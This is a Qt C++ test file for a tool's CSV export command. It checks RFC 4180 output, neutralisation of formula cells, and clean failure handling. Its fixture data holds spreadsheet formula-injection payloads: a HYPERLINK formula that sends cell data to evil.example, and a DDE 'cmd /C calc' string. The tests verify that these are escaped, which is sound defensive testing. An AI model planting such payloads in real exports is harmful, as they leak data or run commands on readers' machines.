// SPDX-License-Identifier: GPL-3.0-or-later
// `slipway export csv --table releases`: RFC 4180 that parses back to the same values, CRLF
// records, formula cells neutralised, and nothing written when the export cannot finish.
#include "TestSupport.h"
#include "io/ReleaseCsvExporter.h"
#include "services/ReleaseService.h"
#include "storage/Database.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace slipway;
using namespace slipway::test;

namespace {

// A strict RFC 4180 reader: records end in CRLF, quoted fields may hold anything.
QList<QStringList> parseCsv(const QByteArray& bytes, QString* problem) {
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    bool fieldStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text[i + 1] == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                field += c;
            }
        } else if (c == u'"' && !fieldStarted) {
            quoted = true;
            fieldStarted = true;
        } else if (c == u',') {
            record << field;
            field.clear();
            fieldStarted = false;
        } else if (c == u'\r') {
            if (i + 1 >= text.size() || text[i + 1] != u'\n') {
                *problem = u"bare CR at offset %1"_qs.arg(i);
                return {};
            }
            ++i;
            record << field;
            records << record;
            record.clear();
            field.clear();
            fieldStarted = false;
        } else if (c == u'\n') {
            *problem = u"bare LF at offset %1"_qs.arg(i);
            return {};
        } else if (c == u'"') {
            *problem = u"quote inside an unquoted field at offset %1"_qs.arg(i);
            return {};
        } else {
            field += c;
            fieldStarted = true;
        }
    }
    if (quoted || fieldStarted || !record.isEmpty())
        *problem = u"the last record does not end in CRLF"_qs;
    return records;
}

} // namespace

class tst_ExportCommand : public QObject {
    Q_OBJECT
private:
    QTemporaryDir m_dir;
    QString m_file;

private Q_SLOTS:
    void initTestCase() {
        dropLoginSession();
        m_file = makeDemo(m_dir, u"export.slipway"_qs);
        QVERIFY(!m_file.isEmpty());
        Database::OpenOptions options;
        auto db = Database::open(m_file, options);
        QVERIFY2(db, qPrintable(db.error().message));
        ReleaseService service(*db.value(), Session{u"tester"_qs, {}});
        const auto add = [&](const QString& name, const QString& owner, const QString& objectives) {
            Release r;
            r.name = name;
            r.version = u"1.0.0"_qs;
            r.owner = owner;
            r.objectives = objectives;
            auto created = service.create(r);
            QVERIFY2(created, qPrintable(created.error().message));
        };
        add(u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_qs, u"@SUM(1+1)"_qs,
            u"+cmd|' /C calc'!A0"_qs);
        add(u"-12.5"_qs, u"-2+3"_qs, u"Line one\r\nLine two, with \"quotes\""_qs);
        add(u"Zürich rollout ✓"_qs, u"\tTabbed"_qs, u"\rCarriage"_qs);
    }

    void exportsEveryReleaseAsRfc4180() {
        const QString out = m_dir.filePath(u"releases.csv"_qs);
        const Run run = runSlipway({u"export"_qs, u"csv"_qs, u"--db"_qs, m_file, u"--table"_qs,
                                    u"releases"_qs, u"--out"_qs, out});
        QVERIFY2(run.exitCode == 0, run.err.constData());
        QVERIFY(run.outText().contains(u"63"_qs)); // the demo's 60 and the three added
        const QByteArray bytes = fileBytes(out);
        QVERIFY(bytes.endsWith("\r\n"));
        QVERIFY(!bytes.startsWith("\xEF\xBB\xBF"));
        QString problem;
        const QList<QStringList> rows = parseCsv(bytes, &problem);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(rows.size(), 1 + 63);
        QCOMPARE(rows.first(), ReleaseCsvExporter::header());
        for (const QStringList& row : rows)
            QCOMPARE(row.size(), rows.first().size());

        const qsizetype name = rows.first().indexOf(u"name"_qs);
        const qsizetype owner = rows.first().indexOf(u"owner"_qs);
        const qsizetype objectives = rows.first().indexOf(u"objectives"_qs);
        const qsizetype team = rows.first().indexOf(u"team"_qs);
        QVERIFY(!rows[1][team].isEmpty()); // names, not ids

        const QStringList evil = rows[61];
        QCOMPARE(evil[name], u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_qs);
        QCOMPARE(evil[owner], u"'@SUM(1+1)"_qs);
        QCOMPARE(evil[objectives], u"'+cmd|' /C calc'!A0"_qs);

        const QStringList numbers = rows[62];
        QCOMPARE(numbers[name], u"-12.5"_qs); // a plain number is data, left alone
        QCOMPARE(numbers[owner], u"'-2+3"_qs);
        QCOMPARE(numbers[objectives], u"Line one\r\nLine two, with \"quotes\""_qs);

        const QStringList unicode = rows[63];
        QCOMPARE(unicode[name], u"Zürich rollout ✓"_qs);
        QCOMPARE(unicode[owner], u"'\tTabbed"_qs);
        QCOMPARE(unicode[objectives], u"'\rCarriage"_qs);
    }

    void failedExportLeavesNothing() {
        const QString out = m_dir.filePath(u"no-such-folder/releases.csv"_qs);
        const Run run = runSlipway({u"export"_qs, u"csv"_qs, u"--db"_qs, m_file, u"--table"_qs,
                                    u"releases"_qs, u"--out"_qs, out});
        QCOMPARE(run.exitCode, 2);
        QVERIFY2(run.errText().contains(u"releases.csv"_qs), run.err.constData());
        QVERIFY(!run.errText().contains(u'\n'));
        QVERIFY(!QDir(m_dir.filePath(u"no-such-folder"_qs)).exists());
    }

    void existingOutputIsReplacedWhole() {
        const QString out = m_dir.filePath(u"replace.csv"_qs);
        QFile f(out);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(QByteArray(100000, 'x'));
        f.close();
        const Run run = runSlipway({u"export"_qs, u"csv"_qs, u"--db"_qs, m_file, u"--table"_qs,
                                    u"releases"_qs, u"--out"_qs, out});
        QCOMPARE(run.exitCode, 0);
        QVERIFY(fileBytes(out).startsWith("id,name,"));
        QVERIFY(!fileBytes(out).contains("xxxx"));
    }

    void usageErrors_data() {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("mentions");
        QTest::newRow("no format") << QStringList{u"export"_qs, u"--db"_qs, u"f"_qs} << u"csv"_qs;
        QTest::newRow("other format") << QStringList{u"export"_qs, u"xlsx"_qs} << u"xlsx"_qs;
        QTest::newRow("no table") << QStringList{u"export"_qs, u"csv"_qs,   u"--db"_qs,
                                                 u"f"_qs,      u"--out"_qs, u"o.csv"_qs}
                                  << u"--table"_qs;
        QTest::newRow("other table")
            << QStringList{u"export"_qs,  u"csv"_qs,      u"--db"_qs,  u"f"_qs,
                           u"--table"_qs, u"invoices"_qs, u"--out"_qs, u"o.csv"_qs}
            << u"invoices"_qs;
        QTest::newRow("no out") << QStringList{u"export"_qs, u"csv"_qs,     u"--db"_qs,
                                               u"f"_qs,      u"--table"_qs, u"releases"_qs}
                                << u"--out"_qs;
    }

    void usageErrors() {
        QFETCH(QStringList, args);
        QFETCH(QString, mentions);
        const Run run = runSlipway(args);
        QCOMPARE(run.exitCode, 2);
        QVERIFY2(run.errText().contains(mentions), run.err.constData());
        QVERIFY(!QFile::exists(u"o.csv"_qs));
    }
};

QTEST_GUILESS_MAIN(tst_ExportCommand)
#include "tst_ExportCommand.moc"
